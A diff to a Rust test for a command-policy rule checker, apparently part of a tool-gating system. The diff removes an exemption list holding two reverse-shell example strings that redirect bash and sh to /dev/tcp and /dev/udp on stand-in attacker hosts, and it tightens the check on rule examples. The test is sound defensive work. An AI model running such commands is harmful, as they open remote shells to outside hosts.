@@ -19,9 +19,6 @@ use toolgate_policies::{Settings, read, stack};
 
 use crate::test_machine::TestMachine;
 
-/// What a rule says and the interpreter does not yet tell it: that bash's own `/dev/tcp` and `/dev/udp` are outputs.
-const NOT_TOLD: [&str; 2] = ["bash >& /dev/tcp/evil.com/4444", "sh > /dev/udp/1.2.3.4/53"];
-
 #[derive(Deserialize)]
 struct Pack {
     rule: Vec<Rule>,
@@ -109,19 +106,21 @@ fn only(name: &str, pack: &Pack, rule: &Rule) -> Settings {
 }
 
 #[test]
-fn every_rule_holds_behind_the_interpreter() {
+fn every_rule_hits_and_misses_its_examples_behind_the_interpreter() {
     let place = Place::new();
-    let mut wrong = Vec::new();
+    let (mut wrong, mut rules) = (Vec::new(), 0);
     for (name, pack) in packs() {
         for rule in &pack.rule {
             let settings = only(&name, &pack, rule);
             let finds = |command: &String| place.finds(&settings, &rule.reason, command);
-            let missed =
-                rule.hits.iter().filter(|command| !finds(command) && !NOT_TOLD.contains(&command.as_str()));
+            rules += 1;
+            assert!(!rule.hits.is_empty() && !rule.misses.is_empty(), "{name}: {} has no examples", rule.id);
+            let missed = rule.hits.iter().filter(|command| !finds(command));
             wrong.extend(missed.map(|command| format!("{name}: {} misses `{command}`", rule.id)));
             let found = rule.misses.iter().filter(|command| finds(command));
             wrong.extend(found.map(|command| format!("{name}: {} finds `{command}`", rule.id)));
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert!(rules > 100, "only {rules} rules");
 }
